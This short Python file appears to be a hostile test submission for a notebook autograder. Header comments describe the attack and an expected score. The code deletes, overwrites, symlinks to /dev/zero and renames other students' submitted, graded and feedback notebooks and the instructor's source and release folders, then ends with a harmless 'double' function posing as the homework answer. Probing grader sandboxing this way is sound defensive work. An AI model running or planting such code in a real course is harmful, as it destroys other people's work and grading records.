# about: Other submissions and graded notebooks deleted, replaced and linked
# score: 5
import os
import shutil
from pathlib import Path

course = Path("@COURSE@")
for step in ("submitted", "autograded", "feedback", "source", "release"):
    for student in ("e-honest", "i-honest", "o-honest", "u-honest", ""):
        folder = course / step / student / "mini"
        shutil.rmtree(folder, ignore_errors=True)
        for change in (
            lambda: folder.mkdir(parents=True),
            lambda: (folder / "mini.ipynb").write_text("{}"),
            lambda: (folder / "mini.ipynb").unlink(),
            lambda: (folder / "mini.ipynb").symlink_to("/dev/zero"),
            lambda: os.rename(folder, f"{folder}.gone"),
        ):
            try:
                change()
            except OSError:
                pass

def double(x):
    return 2 * x
